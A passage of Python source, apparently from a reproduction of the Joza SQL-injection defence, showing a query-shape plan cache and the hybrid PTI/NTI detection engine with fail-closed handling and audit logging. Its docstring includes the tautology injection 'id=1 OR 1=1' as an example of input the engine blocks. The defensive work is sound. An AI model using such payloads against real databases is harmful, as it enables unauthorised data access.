                # mutation another thread has already synced us to.  Serve
                # a miss (its cold path is always correct) rather than
                # syncing *backwards*, which would flush every
                # current-epoch plan and briefly re-open the stale-put
                # window.
                self.stats.misses += 1
                return None
            self._sync_epoch(epoch)
            plan = self._store.get(key)
            if plan is None:
                self.stats.misses += 1
                return None
            self._store.move_to_end(key)
            self.stats.hits += 1
            plan.hits += 1
            return plan

    def put(self, key: str, plan: ShapePlan, epoch: int) -> None:
        with self._lock:
            current = self._epoch
            if (
                current is not self._UNSYNCED
                and isinstance(current, int)
                and epoch < current
            ):
                # A cold path that started before a store mutation finished
                # after it: its plan proves coverage against a vocabulary
                # that no longer exists.  Refusing it means the next query
                # of the shape rebuilds cold -- fall-through, never a
                # stale-trust hit.
                self.stale_puts += 1
                return
            self._sync_epoch(epoch)
            self._store[key] = plan
            self._store.move_to_end(key)
            self.insertions += 1
            while len(self._store) > self.capacity:
                self._store.popitem(last=False)

    def clear(self) -> None:
        with self._lock:
            self._store.clear()
            self._epoch = self._UNSYNCED

    def __len__(self) -> int:
        return len(self._store)

    def snapshot_stats(self) -> dict[str, float]:
        with self._lock:
            return {
                "hits": float(self.stats.hits),
                "misses": float(self.stats.misses),
                "hit_rate": self.stats.hit_rate,
                "entries": float(len(self._store)),
                "capacity": float(self.capacity),
                "invalidations": float(self.invalidations),
                "insertions": float(self.insertions),
                "stale_puts": float(self.stale_puts),
                # The store epoch the cache is synced to (-1 before first
                # use).  Under a tenant reload storm this is how an
                # operator correlates plan-cache flushes with warm
                # handoffs: invalidations should track handoff swaps,
                # and the epoch should equal the tenant store's.
                "epoch": float(self._epoch)
                if isinstance(self._epoch, int)
                else -1.0,
            }


def build_plan(
    query: str,
    skeleton: Skeleton,
    tokens: list[Token],
    analyzer,
) -> ShapePlan | None:
    """Build a reusable plan from a fully-covered instance of a shape.

    ``tokens`` is the critical-token list of ``query`` (as produced by the
    cold path).  ``analyzer`` is a :class:`~repro.pti.inference.PTIAnalyzer`
    over the *current* fragment store; it is asked for a coverage *witness*
    (fragment + occurrence position) for every token.

    Returns ``None`` -- never cache -- when:

    - any critical token overlaps a literal slot (its very text depends on
      literal content, e.g. under strict tokenization policies), or
    - any critical token is not covered by a fragment (unsafe shapes are
      not a shape-level property; see module docstring).
    """
    slots = skeleton.slots
    nslots = len(slots)
    plan_tokens: list[PlanToken] = []
    seg = 0
    for tok in tokens:
        while seg < nslots and slots[seg].end <= tok.start:
            seg += 1
        if seg < nslots and tok.end > slots[seg].start:
            return None  # token overlaps a literal slot
        witness = analyzer.cover_token_witness(query, tok)
        if witness is None:
            return None  # uncovered token: shape must not be cached
        fragment, pos = witness
        seg_start = slots[seg - 1].end if seg > 0 else 0
        seg_end = slots[seg].start if seg < nslots else len(query)
        occ_end = pos + len(fragment)
        recheck = not (seg_start <= pos and occ_end <= seg_end)
        plan_tokens.append(
            PlanToken(
                type=tok.type,
                text=tok.text,
                value=tok.value,
                start=tok.start,
                end=tok.end,
                segment=seg,
                recheck=recheck,
                witness=fragment if recheck else None,
                witness_rel=tok.start - pos if recheck else 0,
            )
        )
    return ShapePlan(skeleton.key, slots, tuple(plan_tokens))
