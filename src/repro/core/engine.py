"""The Joza hybrid taint-inference engine (paper Section IV).

:class:`JozaEngine` is the system's primary public entry point.  It wires
the PTI daemon and the NTI analyzer behind the database wrapper's
:class:`~repro.phpapp.application.QueryGuard` interface:

    All commands intended for the backend DBMS are intercepted and first
    sent to the PTI Analysis component, and then to the NTI Analysis
    component before being allowed to proceed to the DBMS.  A query is safe
    if and only if both PTI and NTI components deem the query safe.

Typical use::

    from repro.core import JozaEngine
    engine = JozaEngine.protect(app)        # extract fragments, hook wrapper
    response = app.handle(request)          # attacks now blocked

or, without an application object, analyse queries directly::

    engine = JozaEngine.from_fragments(["SELECT * FROM t WHERE id="])
    verdict = engine.inspect("SELECT * FROM t WHERE id=1 OR 1=1", context)
"""

from __future__ import annotations

import inspect as _inspect
import random as _random
import threading
import time
import zlib
from dataclasses import dataclass, field
from typing import Iterable

from ..nti.inference import NTIAnalyzer
from ..nti.sources import candidate_inputs
from ..phpapp.application import QueryBlockedError, WebApplication
from ..phpapp.context import RequestContext
from ..pti.daemon import PTIDaemon
from ..pti.fragments import FragmentStore
from ..pti.inference import PTIAnalyzer
from ..sqlparser.parser import critical_tokens
from ..sqlparser.skeleton import Skeleton, skeletonize
from .policy import JozaConfig, RecoveryPolicy
from .shapecache import ShapeCache, ShapePlan, build_plan
from .resilience import (
    CorruptReply,
    DaemonUnavailable,
    Deadline,
    DeadlineExceeded,
    FailurePolicy,
    PoolSaturated,
    PTIFailure,
    RingLog,
)
from .verdict import AnalysisResult, QueryVerdict, Technique

__all__ = ["JozaEngine", "AttackRecord", "EngineStats"]


@dataclass(frozen=True)
class AttackRecord:
    """Audit-log entry for one blocked query.

    ``client_id`` attributes the block to the gateway connection / tenant
    that issued the query (DESIGN.md section 12); ``None`` for in-process
    deployments where there is no remote client.
    """

    query: str
    verdict: QueryVerdict
    request_path: str
    client_id: str | None = None

    def to_dict(self) -> dict:
        """JSON-serialisable form for audit export."""
        return {
            "query": self.query,
            "request_path": self.request_path,
            "client_id": self.client_id,
            "detected_by": sorted(t.value for t in self.verdict.detected_by()),
            "degraded": self.verdict.degraded,
            "failsafe": self.verdict.failsafe,
            "failure_reasons": list(self.verdict.failure_reasons),
            "detections": [
                {
                    "technique": d.technique.value,
                    "token": d.token_text,
                    "start": d.token_start,
                    "end": d.token_end,
                    "reason": d.reason,
                    "input": d.input_value,
                }
                for d in self.verdict.detections
            ],
        }


@dataclass
class EngineStats:
    """Aggregate counters for reporting.

    The last four are the degradation counters (DESIGN.md section 7):
    how often the runtime absorbed a fault instead of analysing normally.
    A healthy deployment shows zeros; anything else is the resilience
    layer earning its keep.

    Thread-safety: every mutation goes through :meth:`bump`, which applies
    all its deltas under one lock -- a snapshot taken by another thread
    (``resilience_counters``/``shape_counters``) therefore never observes a
    half-applied update, and no increment is ever lost to a read-modify-
    write race (DESIGN.md section 10).
    """

    queries_checked: int = 0
    attacks_blocked: int = 0
    nti_detections: int = 0
    pti_detections: int = 0
    nti_seconds: float = 0.0
    pti_seconds: float = 0.0
    #: Queries whose analysis ran past the per-query budget.
    deadline_exceeded: int = 0
    #: Queries refused by an open daemon circuit breaker.
    breaker_open: int = 0
    #: Verdicts produced with less than the full hybrid pipeline.
    degraded_verdicts: int = 0
    #: Queries blocked because analysis was unavailable (not detections).
    failsafe_blocks: int = 0
    #: Queries shed by pool admission control (queue full / no worker in
    #: time); every shed is also resolved fail-closed or degraded above.
    load_shed: int = 0
    #: Shape fast path (DESIGN.md "shape fast path"): queries fully served
    #: by a cached per-shape analysis plan ...
    shape_hits: int = 0
    #: ... whose skeleton had no cached plan (cold path taken) ...
    shape_misses: int = 0
    #: ... or where a plan existed but declined (lex drift, slot/token
    #: overlap, PTI recheck miss, deadline, analyzer error): cold path.
    shape_fallthroughs: int = 0
    #: Plans built and cached after clean, fully-safe cold analyses.
    shape_plans_built: int = 0
    #: Shadow validation: sampled fast-path verdicts re-checked cold ...
    shadow_checks: int = 0
    #: ... and how many disagreed (must stay zero; cold verdict wins).
    shadow_divergences: int = 0
    #: Batched inspection (DESIGN.md section 11): ``inspect_batch`` calls ...
    batch_calls: int = 0
    #: ... queries that arrived inside them ...
    batch_queries: int = 0
    #: ... and how many one-IPC-exchange daemon batches they issued (cold
    #: queries only; fast-path hits never reach the daemon).
    batch_daemon_batches: int = 0
    #: Internal counter lock (not a counter).
    _lock: threading.Lock = field(
        default_factory=threading.Lock, init=False, repr=False, compare=False
    )

    def bump(self, **deltas: float) -> None:
        """Atomically apply counter deltas (e.g. ``bump(shape_hits=1)``).

        All deltas of one call commit under a single lock acquisition, so
        related counters (say ``degraded_verdicts`` + ``failsafe_blocks``)
        move together from any observer's point of view.
        """
        with self._lock:
            for name, delta in deltas.items():
                setattr(self, name, getattr(self, name) + delta)

    def resilience_counters(self) -> dict[str, int]:
        with self._lock:
            return {
                "deadline_exceeded": self.deadline_exceeded,
                "breaker_open": self.breaker_open,
                "degraded_verdicts": self.degraded_verdicts,
                "failsafe_blocks": self.failsafe_blocks,
                "load_shed": self.load_shed,
            }

    def shape_counters(self) -> dict[str, int]:
        with self._lock:
            return {
                "shape_hits": self.shape_hits,
                "shape_misses": self.shape_misses,
                "shape_fallthroughs": self.shape_fallthroughs,
                "shape_plans_built": self.shape_plans_built,
                "shadow_checks": self.shadow_checks,
                "shadow_divergences": self.shadow_divergences,
            }

    def batch_counters(self) -> dict[str, int]:
        with self._lock:
            return {
                "batch_calls": self.batch_calls,
                "batch_queries": self.batch_queries,
                "batch_daemon_batches": self.batch_daemon_batches,
            }


class JozaEngine:
    """Hybrid NTI + PTI query guard."""

    def __init__(
        self,
        store: FragmentStore,
        config: JozaConfig | None = None,
        *,
        daemon=None,
    ) -> None:
        self.config = config or JozaConfig()
        #: Any object with ``analyze_query(query) -> DaemonReply`` works here;
        #: benchmarks substitute a
        #: :class:`~repro.pti.daemon.SubprocessPTIDaemon` to measure the
        #: paper's deployment architecture.
        self.daemon = daemon if daemon is not None else PTIDaemon(
            store, self.config.daemon
        )
        self.nti = NTIAnalyzer(self.config.nti)
        self.stats = EngineStats()
        #: Capacity-bounded audit ring buffer: under a sustained attack
        #: flood the newest evidence is kept, the eviction count is
        #: surfaced as ``dropped_records`` in the export.
        self.attack_log: RingLog = RingLog(
            self.config.resilience.attack_log_capacity
        )
        #: Optional durable state (DESIGN.md section 15): when attached,
        #: attack-audit events are journaled through the ring's sink and
        #: the store's mutations hit the write-ahead journal, so a crash
        #: loses neither vocabulary nor forensics.
        self._durable = None
        #: Lazily-built in-process PTI fallback (FALLBACK_IN_PROCESS policy).
        self._fallback_daemon: PTIDaemon | None = None
        self._daemon_accepts_deadline: bool | None = None
        #: Query-shape fast path (DESIGN.md "shape fast path").  Only active
        #: when both techniques run: a plan encodes results of the *hybrid*
        #: pipeline, so single-technique ablation configs take the cold path.
        shape_cfg = self.config.shape
        self.shape_cache: ShapeCache | None = (
            ShapeCache(shape_cfg.capacity)
            if shape_cfg.enabled
            and self.config.enable_pti
            and self.config.enable_nti
            else None
        )
        #: In-process PTI analyzer used for plan building and per-hit
        #: rechecks; bound to the daemon's current store object.
        self._shape_analyzer: PTIAnalyzer | None = None
        self._shape_store: FragmentStore | None = None
        self._shadow_seed = shape_cfg.shadow_seed
        self._shadow_rng = _random.Random(shape_cfg.shadow_seed)
        #: Guards the engine's lazily-built derived state: the shape
        #: store/analyzer pair (must swap together), the in-process PTI
        #: fallback and the daemon deadline feature-detection flag.  Held
        #: only for check-and-assign work, never across analysis
        #: (DESIGN.md section 10).
        self._state_lock = threading.RLock()

    # ------------------------------------------------------------------
    # Construction helpers
    # ------------------------------------------------------------------

    @classmethod
    def from_fragments(
        cls, fragments: Iterable[str], config: JozaConfig | None = None
    ) -> "JozaEngine":
        """Build an engine over an explicit fragment vocabulary."""
        return cls(FragmentStore(fragments), config)

    @classmethod
    def from_sources(
        cls, sources: Iterable[str], config: JozaConfig | None = None
    ) -> "JozaEngine":
        """Build an engine by extracting fragments from PHP source texts."""
        return cls(FragmentStore.from_sources(sources), config)

    @classmethod
    def protect(
        cls, app: WebApplication, config: JozaConfig | None = None
    ) -> "JozaEngine":
        """Install Joza on an application (the paper's installation step).

        Extracts fragments from the application core and all plugins,
        installs the query guard on the database wrapper, and subscribes to
        plugin changes so the fragment set stays complete (Section IV-B).
        """
        engine = cls.from_sources(app.all_sources(), config)
        app.install_guard(engine)

        def refresh() -> None:
            if hasattr(engine.daemon, "refresh_fragments"):
                engine.daemon.refresh_fragments(
                    FragmentStore.from_sources(app.all_sources())
                )

        app.on_source_change(refresh)
        return engine

    @property
    def store(self) -> FragmentStore:
        return self.daemon.store

    def nti_cache_stats(self) -> dict[str, dict[str, float]]:
        """Hit/miss counters of the NTI match/profile caches.

        .. deprecated:: kept as a stable alias; new code should use
           :meth:`cache_stats`, which covers every cache in the engine
           (NTI match/profile, PTI query/structure, shape plans) in one
           introspection call.
        """
        return self.nti.cache_stats()

    def cache_stats(self) -> dict[str, dict[str, dict[str, float]]]:
        """Unified cache introspection: one dict covering every cache layer.

        Layout::

            {"nti":   {"match": {...}, "profile": {...}},
             "pti":   {"query": {...}, "structure": {...}, "matcher": {...}},
             "shape": {"plans": {... incl. engine fast-path counters},
                       "pti_matcher": {... recheck analyzer counters}}}

        The ``matcher`` leaves carry the PTI matching-engine counters
        (comparisons, automaton builds/nodes, occurrence-index reuse, MRU
        prunes; DESIGN.md section 9) for the daemon's analyzer and for the
        shape fast path's recheck analyzer respectively.

        Each leaf carries ``hits`` / ``misses`` / ``hit_rate`` / ``entries``
        (floats, bench-reporting convention); PTI entries appear only when
        the daemon object exposes its caches (the in-process
        :class:`~repro.pti.daemon.PTIDaemon` does; a subprocess daemon's
        caches live in the child and are not remotely introspectable).
        """
        out: dict[str, dict[str, dict[str, float]]] = {
            "nti": self.nti.cache_stats()
        }
        pti: dict[str, dict[str, float]] = {}
        for name, attr in (("query", "query_cache"), ("structure", "structure_cache")):
            cache = getattr(self.daemon, attr, None)
            stats = getattr(cache, "stats", None)
            if cache is None or stats is None:
                continue
            pti[name] = {
                "hits": float(stats.hits),
                "misses": float(stats.misses),
                "hit_rate": stats.hit_rate,
                "entries": float(len(cache)),
            }
        analyzer = getattr(self.daemon, "analyzer", None)
        matcher_stats = getattr(analyzer, "matcher_stats", None)
        if callable(matcher_stats):
            pti["matcher"] = matcher_stats()
        out["pti"] = pti
        if self.shape_cache is not None:
            plans = self.shape_cache.snapshot_stats()
            plans.update(
                (key, float(value))
                for key, value in self.stats.shape_counters().items()
            )
            shape: dict[str, dict[str, float]] = {"plans": plans}
            if self._shape_analyzer is not None:
                shape["pti_matcher"] = self._shape_analyzer.matcher_stats()
            out["shape"] = shape
        out["batching"] = {
            "calls": {
                key: float(value)
                for key, value in self.stats.batch_counters().items()
            }
        }
        tenancy = getattr(self.store, "tenancy_stats", None)
        if callable(tenancy):
            stats = tenancy()
            out["tenancy"] = {
                "fragments": {
                    "total": float(stats["fragments"]),
                    "interned": float(stats["interned_fragments"]),
                    "private": float(stats["private_fragments"]),
                    "epoch": float(stats["epoch"]),
                    "detached": 1.0 if stats["private"] else 0.0,
                }
            }
        return out

    # ------------------------------------------------------------------
    # Analysis
    # ------------------------------------------------------------------

    def _call_daemon(self, query: str, deadline: Deadline):
        """Invoke the daemon, passing the deadline only if it is accepted.

        The daemon slot takes *any* object with ``analyze_query(query)``
        (benchmarks substitute subprocess daemons, tests substitute fakes),
        so deadline support is feature-detected once per engine.
        """
        if self._daemon_accepts_deadline is None:
            with self._state_lock:
                if self._daemon_accepts_deadline is None:
                    try:
                        parameters = _inspect.signature(
                            self.daemon.analyze_query
                        ).parameters
                        self._daemon_accepts_deadline = (
                            "deadline" in parameters
                            or any(
                                p.kind is _inspect.Parameter.VAR_KEYWORD
                                for p in parameters.values()
                            )
                        )
                    except (TypeError, ValueError):  # pragma: no cover
                        self._daemon_accepts_deadline = False
        if self._daemon_accepts_deadline:
            return self.daemon.analyze_query(query, deadline=deadline)
        return self.daemon.analyze_query(query)

    def _fallback_pti(self) -> PTIDaemon | None:
        """The in-process PTI fallback, if a fragment store is reachable."""
        with self._state_lock:
            if self._fallback_daemon is None:
                store = getattr(self.daemon, "store", None)
                if store is None:  # pragma: no cover - store-less daemon
                    return None
                self._fallback_daemon = PTIDaemon(store, self.config.daemon)
            return self._fallback_daemon

    def inspect(
        self,
        query: str,
        context: RequestContext,
        deadline: Deadline | None = None,
    ) -> QueryVerdict:
        """Run the full hybrid pipeline without enforcement.

        PTI runs first (through the daemon and its caches); NTI runs second,
        reusing the critical tokens the daemon extracted when available
        (Section IV-D).  NTI is skipped entirely when the request carried no
        input -- "[NTI] only needs to be computed when input is provided to
        the application" (Section III-A).

        Resilience invariant: this method **always returns a verdict** --
        analysis failures (daemon crash/hang/poison, breaker-open refusals,
        deadline expiry, even unexpected analyzer exceptions) are resolved
        per :class:`~repro.core.resilience.FailurePolicy` into a fail-closed
        or degraded verdict.  A query is never vouched safe by a technique
        that did not actually run.

        Shape fast path: when enabled, the query's literal-masked skeleton
        is looked up in the plan cache first.  A hit replays the cached
        analysis (PTI structure coverage pre-proven, NTI over prefiltered
        inputs) without touching the daemon; any doubt falls through to the
        cold path below.  Only clean, fully-safe cold analyses plant plans.
        """
        self.stats.bump(queries_checked=1)
        if deadline is None:
            deadline = self.config.resilience.start_deadline()
        cache = self.shape_cache
        if cache is None:
            return self._inspect_cold(query, context, deadline)[0]

        # -- fast path -------------------------------------------------
        skeleton: Skeleton | None = None
        plan: ShapePlan | None = None
        store = analyzer = None
        epoch0 = -1
        t0 = time.perf_counter()
        try:
            store, analyzer = self._shape_state()
            if store is not None:
                # Pin the epoch *before* analysis: the same value keys the
                # lookup and any later plant, so a store mutation racing
                # the cold path makes the plant stale (refused by
                # ShapeCache.put) instead of tagging an old-vocabulary
                # plan with the new epoch.
                epoch0 = store.epoch
                skeleton = skeletonize(query)
                plan = cache.get(skeleton.key, epoch0)
        except (KeyboardInterrupt, SystemExit):  # pragma: no cover
            raise
        except Exception:  # pragma: no cover - defensive: fast path is
            plan = None  # best-effort; the cold path is always correct.
        finally:
            self.stats.bump(pti_seconds=time.perf_counter() - t0)
        if plan is not None:
            verdict = self._apply_plan(
                plan, skeleton, query, context, deadline, analyzer
            )
            if verdict is not None:
                self.stats.bump(shape_hits=1)
                shadow = self._shadow_validate(query, context, verdict)
                return verdict if shadow is None else shadow
            self.stats.bump(shape_fallthroughs=1)
        else:
            self.stats.bump(shape_misses=1)

        # -- cold path + plan planting --------------------------------
        verdict, tokens = self._inspect_cold(query, context, deadline)
        if skeleton is not None and store is not None and analyzer is not None:
            self._maybe_plant_plan(
                query, skeleton, epoch0, analyzer, verdict, tokens
            )
        return verdict

    def _call_daemon_batch(
        self, queries: list[str], deadline: Deadline
    ) -> list[tuple[str, object] | None]:
        """One batched daemon exchange, as per-query PTI outcomes.

        A daemon exposing ``analyze_batch`` gets the whole list in one
        call (one IPC exchange, one deadline clamp for subprocess-backed
        daemons); its single success or failure becomes every query's
        outcome -- the batch succeeds or fails closed *as a unit*, and
        ``_inspect_cold`` re-raises the captured failure per query so the
        existing policy resolution applies unchanged.  A daemon without
        ``analyze_batch`` returns ``None`` outcomes, which make
        ``_inspect_cold`` perform its usual per-query call.
        """
        batch = getattr(self.daemon, "analyze_batch", None)
        if not callable(batch):
            return [None] * len(queries)
        t0 = time.perf_counter()
        try:
            replies = batch(queries, deadline=deadline)
            if len(replies) != len(queries):
                raise CorruptReply(
                    f"daemon batch returned {len(replies)} replies "
                    f"for {len(queries)} queries"
                )
        except (KeyboardInterrupt, SystemExit):  # pragma: no cover
            raise
        except Exception as exc:
            return [("err", exc)] * len(queries)
        finally:
            # _inspect_cold re-times its (now trivial) PTI leg; the real
            # batched exchange is attributed here, once.
            self.stats.bump(
                pti_seconds=time.perf_counter() - t0, batch_daemon_batches=1
            )
        return [("ok", reply) for reply in replies]

    def inspect_batch(
        self,
        queries: Iterable[str],
        context: RequestContext,
        deadline: Deadline | None = None,
    ) -> list[QueryVerdict]:
        """Inspect a batch of queries from one request context.

        Verdict-equivalent to ``[inspect(q, context) for q in queries]``
        (property-tested, including the paper's evasion payloads) but with
        the per-query fixed costs paid once per batch:

        - **one epoch pin** -- the fragment-store epoch is read once and
          keys every plan lookup *and* every plan plant of the batch.  A
          store mutation racing the batch makes affected lookups miss and
          affected plants get refused by the cache's stale-put guard
          (``ShapeCache.put``), so the whole batch observes one consistent
          epoch -- it can never mix trust from two vocabularies;
        - **one daemon exchange** -- every query the fast path could not
          serve goes to the daemon in a single ``analyze_batch`` call (one
          IPC round-trip, one deadline clamp on the wire; see
          ``repro/pti/wire.py``), taking the daemon lock once;
        - **one candidate enumeration** -- NTI candidate inputs depend on
          the query only through its length
          (:func:`~repro.nti.sources.candidate_inputs`), so the batch
          memoises the enumeration per distinct query length instead of
          re-deduplicating the context per query.

        Fail-closed semantics are per batch on the PTI leg: a failed
        batched exchange resolves every cold query of the batch through
        the same :class:`~repro.core.resilience.FailurePolicy` machinery
        as a failed single call -- a recorded failsafe block or flagged
        degraded verdict, never a silent pass.  One deadline bounds the
        whole batch.
        """
        queries = list(queries)
        if not queries:
            return []
        self.stats.bump(
            queries_checked=len(queries),
            batch_calls=1,
            batch_queries=len(queries),
        )
        if deadline is None:
            deadline = self.config.resilience.start_deadline()

        # Batch-level NTI candidate memo (exact: candidate_inputs depends
        # on the query only through len(query)).  candidate_inputs returns
        # an immutable tuple, so the memo hands the same object to every
        # query of the batch -- and the NTI prefilter's per-query gram
        # index rides the shared TextProfile for the same reuse.
        threshold = self.config.nti.threshold
        memo: dict[int, tuple[str, ...]] = {}

        def candidates(query: str) -> tuple[str, ...]:
            values = memo.get(len(query))
            if values is None:
                values = memo[len(query)] = candidate_inputs(
                    context, query, threshold
                )
            return values

        results: list[QueryVerdict | None] = [None] * len(queries)
        cold: list[int] = []
        skeletons: list[Skeleton | None] = [None] * len(queries)
        cache = self.shape_cache
        store = analyzer = None
        epoch0 = -1

        # -- fast path: skeleton + plan lookup per query, one epoch pin --
        if cache is not None:
            t0 = time.perf_counter()
            try:
                store, analyzer = self._shape_state()
                if store is not None:
                    epoch0 = store.epoch
            except (KeyboardInterrupt, SystemExit):  # pragma: no cover
                raise
            except Exception:  # pragma: no cover - defensive
                store = analyzer = None
            finally:
                self.stats.bump(pti_seconds=time.perf_counter() - t0)
        if store is not None:
            for index, query in enumerate(queries):
                plan = None
                t0 = time.perf_counter()
                try:
                    skeleton = skeletonize(query)
                    skeletons[index] = skeleton
                    plan = cache.get(skeleton.key, epoch0)
                except (KeyboardInterrupt, SystemExit):  # pragma: no cover
                    raise
                except Exception:  # pragma: no cover - defensive
                    plan = None
                finally:
                    self.stats.bump(pti_seconds=time.perf_counter() - t0)
                if plan is not None:
                    verdict = self._apply_plan(
                        plan,
                        skeletons[index],
                        query,
                        context,
                        deadline,
                        analyzer,
                        candidates=candidates,
                    )
                    if verdict is not None:
                        self.stats.bump(shape_hits=1)
                        shadow = self._shadow_validate(query, context, verdict)
                        results[index] = verdict if shadow is None else shadow
                        continue
                    self.stats.bump(shape_fallthroughs=1)
                else:
                    self.stats.bump(shape_misses=1)
                cold.append(index)
        else:
            cold = list(range(len(queries)))

        # -- cold path: one batched daemon exchange + per-query resolution --
        if cold:
            outcomes: list[tuple[str, object] | None]
            if self.config.enable_pti:
                outcomes = self._call_daemon_batch(
                    [queries[i] for i in cold], deadline
                )
            else:
                outcomes = [None] * len(cold)
            for outcome, index in zip(outcomes, cold):
                query = queries[index]
                verdict, tokens = self._inspect_cold(
                    query,
                    context,
                    deadline,
                    pti_outcome=outcome,
                    candidates=candidates,
                )
                results[index] = verdict
                skeleton = skeletons[index]
                if skeleton is not None and analyzer is not None:
                    self._maybe_plant_plan(
                        query, skeleton, epoch0, analyzer, verdict, tokens
                    )
        return results

    # ------------------------------------------------------------------
    # Shape fast path internals
    # ------------------------------------------------------------------

    def _shape_state(self) -> tuple[FragmentStore | None, PTIAnalyzer | None]:
        """Current fragment store + the plan analyzer bound to it.

        Guards both invalidation axes: a *swapped* store object (daemon
        ``refresh_fragments``) flushes the cache outright -- epochs of
        distinct stores are incomparable -- while *in-place* epoch bumps
        are handled by the analyzer's own staleness guard (MRU prune,
        automaton recompile, occurrence-memo drop; see
        :meth:`~repro.pti.inference.PTIAnalyzer.cover_token_witness`).
        The cache itself syncs on the epoch at get/put time.
        """
        with self._state_lock:
            # Read the daemon's store pointer *inside* the lock: reading it
            # first and locking second would let a concurrent
            # ``refresh_fragments`` swap in a newer store between the two,
            # and this thread would then re-install the older one -- plans
            # planted against a superseded vocabulary are stale trust.
            store = getattr(self.daemon, "store", None)
            if store is None:  # pragma: no cover - store-less custom daemon
                return None, None
            if store is not self._shape_store:
                self._shape_store = store
                self._shape_analyzer = PTIAnalyzer(
                    store, self.config.daemon.pti
                )
                self.shape_cache.clear()
            return store, self._shape_analyzer

    def _apply_plan(
        self,
        plan: ShapePlan,
        skeleton: Skeleton,
        query: str,
        context: RequestContext,
        deadline,
        analyzer: PTIAnalyzer,
        candidates=None,
    ) -> QueryVerdict | None:
        """Replay a cached plan on one query instance; ``None`` = fall through.

        Fast-path time is attributed to the same ``pti_seconds`` /
        ``nti_seconds`` buckets as the cold path so overhead accounting
        (``attributed_overhead_pct``) stays comparable across modes.
        ``candidates`` optionally supplies the NTI candidate-input
        enumeration (``inspect_batch``'s per-length memo); ``None`` means
        enumerate per query, exactly as the serial path does.
        """
        t0 = time.perf_counter()
        try:
            deadline.check("shape-pti")
            # Trusted instantiation: the plan was looked up by this query's
            # own skeleton key, so spans/tokens are memoised on slot
            # lengths (see ShapePlan.instantiate_trusted).
            spans, tokens = plan.instantiate_trusted(query, skeleton.slots)
            if spans is None:
                return None
            if plan.recheck_count:
                # Tokens whose build-time coverage witness crossed a
                # literal slot: coverage depends on this instance's
                # literals, re-prove it.  The stored witness usually
                # re-occurs at the same token-relative offset (one verbatim
                # startswith, inlined from ShapePlan.witness_holds); only
                # misses pay the fragment search -- and under the automaton
                # matcher all misses of one query share a single streaming
                # pass via the analyzer's occurrence-index memo.
                startswith = query.startswith
                for index, witness, rel, wlen in plan.recheck_witnesses:
                    start, end = spans[index]
                    pos = start - rel
                    if (
                        witness is not None
                        and pos >= 0
                        and end <= pos + wlen
                        and startswith(witness, pos)
                    ):
                        continue
                    if analyzer.cover_token_witness(query, tokens[index]) is None:
                        return None
            pti_result = AnalysisResult(
                technique=Technique.PTI, safe=True, from_cache="shape"
            )
        except (KeyboardInterrupt, SystemExit):  # pragma: no cover
            raise
        except Exception:
            return None
        finally:
            self.stats.bump(pti_seconds=time.perf_counter() - t0)

        t0 = time.perf_counter()
        try:
            if context.non_empty_values():
                threshold = self.config.nti.threshold
                pool = (
                    candidate_inputs(context, query, threshold)
                    if candidates is None
                    else candidates(query)
                )
                values = [
                    value
                    for value in pool
                    if plan.input_can_cover(value, threshold)
                ]
                if values:
                    nti_result = self.nti.analyze(
                        query,
                        context,
                        tokens,
                        deadline=deadline,
                        values=values,
                        # Lazy factory for the exact pruning tables,
                        # assembled from the plan's segment template --
                        # O(slot text), not O(query), and only if some
                        # input survives the exact-containment check.
                        profile=lambda: plan.profile_for(query, skeleton.slots),
                    )
                else:
                    # Every input provably unable to cover any critical
                    # token: same verdict as a full run, no matcher calls.
                    nti_result = AnalysisResult(
                        technique=Technique.NTI, safe=True
                    )
            else:
                nti_result = AnalysisResult(technique=Technique.NTI, safe=True)
        except (KeyboardInterrupt, SystemExit):  # pragma: no cover
            raise
        except Exception:
            return None
        finally:
            self.stats.bump(nti_seconds=time.perf_counter() - t0)

        if not nti_result.safe:
            self.stats.bump(nti_detections=1)
        return QueryVerdict(
            query=query,
            safe=nti_result.safe,
            pti=pti_result,
            nti=nti_result,
        )

    def _maybe_plant_plan(
        self,
        query: str,
        skeleton: Skeleton,
        epoch0: int,
        analyzer: PTIAnalyzer,
        verdict: QueryVerdict,
        tokens,
    ) -> None:
        """Plant a shape plan after a clean cold analysis (best-effort).

        ``epoch0`` is the epoch pinned *before* the analysis ran; the
        cache refuses the put if the store has moved on since (stale
        trust), which is exactly the mid-batch-mutation guarantee
        ``inspect_batch`` relies on.
        """
        if tokens is None or not self._plan_cacheable(verdict):
            return
        cache = self.shape_cache
        if cache is None:
            return
        t0 = time.perf_counter()
        try:
            new_plan = build_plan(query, skeleton, tokens, analyzer)
            if new_plan is not None:
                cache.put(skeleton.key, new_plan, epoch0)
                self.stats.bump(shape_plans_built=1)
        except (KeyboardInterrupt, SystemExit):  # pragma: no cover
            raise
        except Exception:  # pragma: no cover - defensive
            pass
        finally:
            self.stats.bump(pti_seconds=time.perf_counter() - t0)

    @staticmethod
    def _plan_cacheable(verdict: QueryVerdict) -> bool:
        """Only clean, fully-safe hybrid verdicts may plant a plan.

        Unsafe shapes are never cached (coverage gaps are not a shape
        property); degraded/failsafe verdicts reflect faults, not analysis.
        """
        return (
            verdict.safe
            and not verdict.degraded
            and not verdict.failsafe
            and not verdict.failure_reasons
            and verdict.pti is not None
            and verdict.pti.safe
            and verdict.nti is not None
            and verdict.nti.safe
        )

    def _shadow_validate(
        self, query: str, context: RequestContext, fast: QueryVerdict
    ) -> QueryVerdict | None:
        """Sampled cold re-run of a fast-path verdict (correctness monitor).

        Returns ``None`` when not sampled or in agreement; on divergence the
        counter is bumped and the *cold* verdict is returned (trust the
        reference pipeline).  The cold re-run's time lands in the usual
        stat buckets, so shadowing visibly costs what it costs.

        Sampling determinism: with ``shadow_seed`` set, the decision is a
        pure function of ``(seed, query)`` -- a CRC32-derived uniform in
        ``[0, 1)`` -- so whether a given query is shadowed does not depend
        on thread interleaving or ``PYTHONHASHSEED`` (the concurrency chaos
        harness relies on this for serial == concurrent replay).  Without a
        seed, the shared RNG is sampled under the state lock.
        """
        rate = self.config.shape.shadow_rate
        if rate <= 0.0:
            return None
        if self._shadow_seed is not None:
            digest = zlib.crc32(
                query.encode("utf-8", "surrogatepass"),
                self._shadow_seed & 0xFFFFFFFF,
            )
            sample = digest / 4294967296.0
        else:
            with self._state_lock:
                sample = self._shadow_rng.random()
        if sample >= rate:
            return None
        self.stats.bump(shadow_checks=1)
        cold, _ = self._inspect_cold(
            query, context, self.config.resilience.start_deadline()
        )
        if cold.safe == fast.safe and cold.detected_by() == fast.detected_by():
            return None
        self.stats.bump(shadow_divergences=1)
        return cold

    def _inspect_cold(
        self,
        query: str,
        context: RequestContext,
        deadline,
        pti_outcome: tuple[str, object] | None = None,
        candidates=None,
